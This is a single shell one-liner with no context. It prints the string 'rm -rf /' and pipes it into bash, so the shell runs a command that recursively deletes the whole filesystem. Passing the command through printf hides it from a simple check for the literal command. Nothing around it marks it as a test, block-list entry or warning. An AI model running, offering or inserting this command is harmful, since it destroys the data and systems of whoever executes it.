printf '%s\n' 'rm -rf /' | bash
